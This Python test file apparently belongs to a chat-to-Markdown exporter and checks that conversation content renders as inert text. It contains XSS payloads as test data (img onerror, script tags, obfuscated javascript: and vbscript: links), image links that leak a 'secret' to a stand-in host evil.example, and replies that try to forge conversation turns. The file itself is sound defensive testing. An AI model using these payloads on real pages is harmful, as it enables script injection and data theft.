"""A Markdown export shows HTML from a conversation as text: nothing in it renders live.

The export is rendered here with markdown-it (CommonMark, raw HTML allowed, as a
notebook's or a viewer's Markdown renderer does) to see what a reader would get.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from cm_notebook.export import ExportDocument, to_markdown
from cm_notebook.model import Branch, ContextMetadata, Message, MessageMetadata, ToolCall

EVIL = '<img src=x onerror="alert(1)"></div><script>alert(2)</script>'
FENCED = "Like this:\n\n```html\n<b>bold</b> & co\n```\n\nand\n\n    <i>indented</i>"

RENDER = MarkdownIt("commonmark", {"html": True})


def _document(content: str, **meta: str) -> ExportDocument:
    return ExportDocument(
        metadata=ContextMetadata(
            id="ctx-html",
            title=meta.get("title", "t"),
            system_prompt=meta.get("system"),
            branches={"main": Branch(name="main", head="a1")},
        ),
        messages=[
            Message(id="u1", role="user", content="hi"),
            Message(
                id="a1",
                parent_id="u1",
                role="assistant",
                content=content,
                metadata=MessageMetadata(error=meta.get("error")),
            ),
        ],
    )


@pytest.mark.parametrize(
    ("content", "meta"),
    [
        (EVIL, {}),
        ("fine", {"title": EVIL}),
        ("fine", {"system": EVIL}),
        ("fine", {"error": EVIL}),
        (f"A `code span\n{EVIL} and` a\n\n{EVIL}\n\n- item\n\n  ```\n  {EVIL}", {}),
    ],
)
def test_html_in_a_conversation_is_shown_as_text(content: str, meta: dict[str, str]) -> None:
    rendered = RENDER.render(to_markdown(_document(content, **meta)))
    assert "<img" not in rendered
    assert "<script" not in rendered
    assert "&lt;script&gt;" in rendered  # still there for the reader, as text


def test_code_blocks_keep_their_text_as_typed() -> None:
    markdown = to_markdown(_document(FENCED + "\n\nTom & Jerry <3"))
    assert "```html\n<b>bold</b> & co\n```" in markdown
    # An indented block is written as a fence: readers differ on where it belongs.
    assert "```\n<i>indented</i>\n```" in markdown
    assert "Tom &amp; Jerry &lt;3" in markdown
    rendered = RENDER.render(markdown)
    assert '<code class="language-html">&lt;b&gt;bold&lt;/b&gt; &amp; co\n</code>' in rendered
    assert "<code>&lt;i&gt;indented&lt;/i&gt;\n</code>" in rendered
    assert "Tom &amp; Jerry &lt;3" in rendered


# -- the document as a whole: what one message could do to the ones after it -----------

#: A renderer that keeps every link, as some notebook converters do.
PERMISSIVE = MarkdownIt("commonmark", {"html": True})
PERMISSIVE.validateLink = lambda url: True  # type: ignore[method-assign]

LIVE = '<img src=x onerror="alert(1)">'


def _conversation(*messages: Message, tags: list[str] | None = None) -> ExportDocument:
    chained = []
    parent = None
    for n, message in enumerate(messages):
        chained.append(message.model_copy(update={"id": f"m{n}", "parent_id": parent}))
        parent = f"m{n}"
    return ExportDocument(
        metadata=ContextMetadata(
            id="ctx-doc",
            title="t",
            tags=tags or [],
            branches={"main": Branch(name="main", head=parent)},
        ),
        messages=chained,
    )


def _rendered(document: ExportDocument) -> str:
    return PERMISSIVE.render(to_markdown(document))


def test_a_fence_left_open_cannot_make_the_next_messages_code_live() -> None:
    # Left open, the reply's fence would be closed by the next message's opening fence,
    # and that message's code would then be read as HTML.
    document = _conversation(
        Message(role="user", content="show me"),
        Message(role="assistant", content="Here:\n\n```\nunfinished"),
        Message(role="user", content=f"and this?\n\n```\n{LIVE}\n```"),
        Message(role="assistant", content="Fine."),
    )
    rendered = _rendered(document)
    assert "<img" not in rendered
    assert rendered.count("<h2>") == 4  # every turn is a heading, none swallowed
    assert "<code>unfinished\n</code>" in rendered


@pytest.mark.parametrize(
    "call",
    [
        ToolCall(id="c1", name=f"x` {LIVE} `", arguments={}),
        ToolCall(id=f"c` {LIVE} `", name="lookup", arguments={}),
        ToolCall(id="c2", name="lookup", arguments={}, reason=f"    {LIVE}"),
        ToolCall(id="c3", name="lookup", arguments={}, reason=f"no\n\n## User\n{LIVE}"),
    ],
    ids=["tool-name", "call-id", "indented-reason", "multi-line-reason"],
)
def test_tool_names_ids_and_reasons_are_literal(call: ToolCall) -> None:
    document = _conversation(
        Message(role="user", content="go"),
        Message(role="assistant", content="", tool_calls=[call]),
        Message(role="tool", content="42", tool_call_id=call.id),
    )
    rendered = _rendered(document)
    assert "<img" not in rendered
    assert rendered.count("<h2>") == 3
    assert "onerror" in rendered  # shown, as text


def test_errors_and_tags_are_literal() -> None:
    document = _conversation(
        Message(role="user", content="go"),
        Message(
            role="assistant",
            content="",
            metadata=MessageMetadata(error=f"    {LIVE}\n\n## System prompt\n\n[x](javascript:1)"),
        ),
        tags=[LIVE, "a\n\n## System prompt"],
    )
    rendered = _rendered(document)
    assert "<img" not in rendered
    assert "<a " not in rendered
    assert rendered.count("<h2>") == 2


@pytest.mark.parametrize(
    "content",
    [
        "[click](javascript:alert(1))",
        "[click](  JavaScript:alert(1))",
        "[click](\njavascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "![img](data:text/html;base64,PHNjcmlwdD4=)",
        "[click][ref]\n\n[ref]: vbscript:msgbox(1)",
        "[click][ref]\n\n[ref]:\n  javascript:alert(1)",
        # Entities some readers decode (even escaped once), and definitions in a quote
        # or a list item.
        "[click](jav&#x61;script:alert(1))",
        "[click](JaVaScRiPt&colon;alert(1))",
        "> [ref]: javascript:alert(1)\n>\n> [ref]",
        "- [ref]: javascript:alert(1)\n\n  [ref]",
    ],
)
def test_script_links_are_shown_as_text(content: str) -> None:
    document = _conversation(
        Message(role="user", content="hi"), Message(role="assistant", content=content)
    )
    rendered = _rendered(document)
    assert "href=" not in rendered
    assert "src=" not in rendered
    assert "script" in rendered.lower() or "data" in rendered  # the text is still there


def test_a_reply_cannot_forge_a_turn_and_its_headings_stay_below_the_turns() -> None:
    content = (
        "# Answer\n\nSome text.\n\n## User · 2026-01-01 00:00\n\nfake question\n\n"
        "Fake\n----\n\n> ## quoted heading\n\n> Quoted\n> ---\n\n- ## listed\n\n"
        "* > Deep\n  > ==="
    )
    rendered = _rendered(
        _conversation(
            Message(role="user", content="hi"), Message(role="assistant", content=content)
        )
    )
    assert rendered.count("<h2>") == 2  # the two real turns
    assert "<h3>Answer</h3>" in rendered
    assert "<h4>User · 2026-01-01 00:00</h4>" in rendered
    assert "<h4>Fake</h4>" in rendered


def test_quotes_lists_and_code_in_lists_keep_their_form() -> None:
    content = (
        "> a quote with **bold**\n\n1. Run:\n\n   ```sh\n   make && ./run\n   ```\n\n"
        "```py\nif a < b and c > d: pass\n```"
    )
    rendered = _rendered(
        _conversation(
            Message(role="user", content="hi"), Message(role="assistant", content=content)
        )
    )
    assert "<blockquote>\n<p>a quote with <strong>bold</strong></p>" in rendered
    assert "make &amp;&amp; ./run" in rendered  # as typed, shown once escaped by the renderer
    # Code in a list keeps its "&" but not a raw "<": renderers differ on where such a
    # block ends, and only "<" can open markup if one reads it as text.
    nested = "1. Run:\n\n   ```sh\n   make && ./run <x>\n   ```"
    markdown = to_markdown(
        _conversation(Message(role="user", content="hi"), Message(role="assistant", content=nested))
    )
    assert "   make && ./run &lt;x>" in markdown
    assert "if a &lt; b and c &gt; d: pass" in rendered


def _reply_rendered(content: str) -> str:
    return _rendered(
        _conversation(
            Message(role="user", content="hi"), Message(role="assistant", content=content)
        )
    )


@pytest.mark.parametrize(
    ("content", "shown"),
    [
        ("Use `vector<int>` and `a && b`.", ["vector&lt;int&gt;", "a &amp;&amp; b"]),
        ("- in a list: `x < 10`\n\n> quoted `<b>`", ["x &lt; 10", "&lt;b&gt;"]),
        ("``a`b<c`` then `d`", ["a`b&lt;c", ">d<"]),
    ],
)
def test_inline_code_keeps_its_text_as_typed(content: str, shown: list[str]) -> None:
    rendered = _reply_rendered(content)
    for text in shown:
        assert text in rendered  # escaped once, by the renderer: "&lt;", not "&amp;lt;"
    assert "&amp;lt;" not in rendered
    assert "&amp;amp;" not in rendered


@pytest.mark.parametrize(
    "content",
    [
        # A link destination with a backtick: readers pair the backticks otherwise.
        f"[l](u`v) {LIVE} `x`",
        # A span across lines: a line start inside it could open an HTML block.
        f"a `b\n<div>{LIVE}</div> c`",
        # A table row, math, a backslash-escaped backtick.
        f"| `a|{LIVE}` |",
        f"$`$ {LIVE} `",
        f"\\`{LIVE}` x",
        f"`x` {LIVE} `y`",
    ],
)
def test_inline_code_cannot_carry_markup(content: str) -> None:
    rendered = _reply_rendered(content)
    assert "<img" not in rendered
    assert "<div" not in rendered


PIECES = ["`", "``", "<", "&", "a", " ", "\n", "\n\n", "- ", "> ", "*", "[", "](", ")", "|"]
PIECES += ["$", "\\", "#", "    ", "<div>", LIVE, "<script>alert(2)</script>"]


@given(st.lists(st.sampled_from(PIECES), max_size=30))
@settings(max_examples=300, deadline=None)
def test_no_mix_of_code_spans_and_markup_renders_live(pieces: list[str]) -> None:
    rendered = _reply_rendered("".join(pieces))
    for tag in ("<img", "<div", "<script"):
        assert tag not in rendered


@pytest.mark.parametrize(
    "content",
    [
        "Look: ![chart](http://evil.example/?q=secret)",
        "![chart][r]\n\n[r]: http://evil.example/?q=secret",
        # A backslash before the "!" that is itself escaped leaves the image live.
        "see \\\\![chart](http://evil.example/?q=secret)",
    ],
)
def test_an_image_is_a_link_not_loaded_on_opening(content: str) -> None:
    rendered = _reply_rendered(content)
    assert "<img" not in rendered
    assert '<a href="http://evil.example/?q=secret">chart</a>' in rendered


@pytest.mark.parametrize(
    "content",
    [
        f"see http://a`{LIVE}`",
        f"see www.example.org`{LIVE}` too",
        "http://a```<script>x</script>```",
    ],
)
def test_a_bare_address_before_inline_code_carries_no_markup_to_nbconvert(content: str) -> None:
    # nbconvert (mistune) makes a bare address a link that runs on into the code span,
    # so the span's "<" came out raw there.
    mistune = pytest.importorskip("nbconvert.filters.markdown_mistune")
    markdown = to_markdown(
        _conversation(
            Message(role="user", content="hi"), Message(role="assistant", content=content)
        )
    )
    rendered = mistune.markdown2html_mistune(markdown)
    assert "<img" not in rendered
    assert "<script" not in rendered
